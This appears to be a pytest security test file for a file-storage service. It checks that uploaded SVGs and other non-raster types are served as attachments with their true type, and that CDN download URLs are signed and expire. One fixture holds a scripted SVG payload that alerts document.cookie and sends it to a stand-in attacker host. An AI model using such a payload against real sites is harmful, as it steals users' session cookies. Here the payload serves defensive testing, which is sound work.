"""Attack: user content that a browser would run — an SVG with a script uploaded as an asset (before: stored and
served inline as image/svg+xml, no nosniff) — and download URLs that outlive what they state.

Whatever is not a raster image is served as an attachment with its true type, in both the presigned S3 answer
and the object's own metadata (what the CDN hands on, with nosniff and a content security policy from its
response headers policy: tests/infra). CDN URLs are signed and end at ``url_expires_at``."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from design_agent.settings import MissingSetting, Settings

from functions.storage.dal.cdn import CdnUrls
from functions.storage.deps import StorageDeps
from functions.storage.logic.content_types import disposition
from functions.storage.service import FILES_BUCKET
from tests.unit.aws import AwsSandbox
from tests.unit.security.http import call, caller, register
from tests.unit.test_storage_logic import png

SCRIPTED_SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
                b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>")


def _upload(who: dict[str, str], data: bytes, content_type: str, filename: str, kind: str = "asset") -> dict[str, str]:
    status, body = call("storage.UploadFile", who, body={"filename": filename, "content_type": content_type,
                                                          "kind": kind, "data_base64": base64.b64encode(data).decode()})
    assert status == 201, body
    return dict(body)


@pytest.mark.parametrize(("data", "content_type", "filename", "served_as"), [
    (SCRIPTED_SVG, "image/svg+xml", "logo.svg", "attachment"),
    (png(), "image/png", "logo.png", "inline"),
])
def test_what_a_browser_would_run_is_served_as_an_attachment_with_its_true_type(
        sandbox: AwsSandbox, data: bytes, content_type: str, filename: str, served_as: str) -> None:
    who = caller(register("svg"))
    stored = _upload(who, data, content_type, filename)
    status, info = call("storage.GetFile", who, params={"file_id": stored["file_id"]})
    assert status == 200
    query = parse_qs(urlsplit(info["url"]).query)
    assert query["response-content-type"] == [content_type]
    assert query["response-content-disposition"][0].startswith(f"{served_as}; filename*=UTF-8''{filename}")
    # the object itself carries them too (a CDN, or anything else that serves the object, hands them on)
    s3 = sandbox.clients.client("s3")
    head = s3.head_object(Bucket=Settings.from_env().bucket(FILES_BUCKET), Key=_key_of(sandbox, stored["file_id"]))
    assert (head["ContentType"], head["ContentDisposition"].split(";")[0]) == (content_type, served_as)


def _key_of(sandbox: AwsSandbox, file_id: str) -> str:
    record = StorageDeps.from_env(sandbox.clients).files.get(file_id)
    assert record is not None
    return record.key


@pytest.mark.parametrize(("content_type", "kind"), [
    ("image/svg+xml", "attachment"), ("application/pdf", "attachment"), ("font/ttf", "attachment"),
    ("text/html", "attachment"), ("application/xml", "attachment"), ("image/svg+xml; charset=utf-8", "attachment"),
    ("image/png", "inline"), ("image/jpeg", "inline"), ("image/webp", "inline"), ("image/gif", "inline"),
])
def test_only_raster_images_are_inline(content_type: str, kind: str) -> None:
    assert disposition(content_type, "a b.x").split(";")[0] == kind


def _rsa() -> tuple[rsa.RSAPrivateKey, str]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    return key, pem


def test_cdn_urls_are_signed_and_end_when_they_say() -> None:
    key, pem = _rsa()
    expires = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
    url = CdnUrls("d111.cloudfront.net", "K2JCJMDEHXQW5F", lambda: pem).url("files/usr_1/fil_1/a b.svg", expires)
    parts = urlsplit(url)
    query = parse_qs(parts.query)
    assert (parts.scheme, parts.netloc, parts.path) == ("https", "d111.cloudfront.net", "/files/usr_1/fil_1/a%20b.svg")
    assert query["Expires"] == [str(int(expires.timestamp()))]
    assert query["Key-Pair-Id"] == ["K2JCJMDEHXQW5F"]
    # the canned policy CloudFront rebuilds from the URL, signed with the key group's private key
    resource = f"{parts.scheme}://{parts.netloc}{parts.path}"
    policy = json.dumps({"Statement": [{"Resource": resource,
                                        "Condition": {"DateLessThan": {"AWS:EpochTime": int(expires.timestamp())}}}]},
                        separators=(",", ":")).encode()
    signature = base64.b64decode(query["Signature"][0].replace("-", "+").replace("_", "=").replace("~", "/"))
    key.public_key().verify(signature, policy, padding.PKCS1v15(), hashes.SHA1())


def test_a_cdn_without_its_signing_key_is_refused_not_served_unsigned(sandbox: AwsSandbox,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CDN_DOMAIN", "d111.cloudfront.net")
    with pytest.raises(MissingSetting):
        StorageDeps.from_env(sandbox.clients)


def test_file_urls_in_a_cdn_stage_are_signed_until_url_expires_at(sandbox: AwsSandbox,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    _, pem = _rsa()
    sm = sandbox.clients.client("secretsmanager")
    sm.create_secret(Name="design-agent/unit/cdn-signing-key", SecretString=pem)
    who = caller(register("cdn"))
    stored = _upload(who, png(), "image/png", "p.png")
    monkeypatch.setenv("CDN_DOMAIN", "d111.cloudfront.net")
    monkeypatch.setenv("CDN_KEY_PAIR_ID", "K2JCJMDEHXQW5F")
    monkeypatch.setenv("CDN_SIGNING_KEY_SECRET_ID", "design-agent/unit/cdn-signing-key")
    status, info = call("storage.GetFile", who, params={"file_id": stored["file_id"]})
    assert status == 200
    expires_at = datetime.fromisoformat(info["url_expires_at"].replace("Z", "+00:00"))
    query = parse_qs(urlsplit(info["url"]).query)
    assert info["url"].startswith("https://d111.cloudfront.net/files/")
    assert int(query["Expires"][0]) == int(expires_at.timestamp())
    assert expires_at - datetime.now(UTC) <= timedelta(seconds=Settings.from_env().download_url_ttl_s)
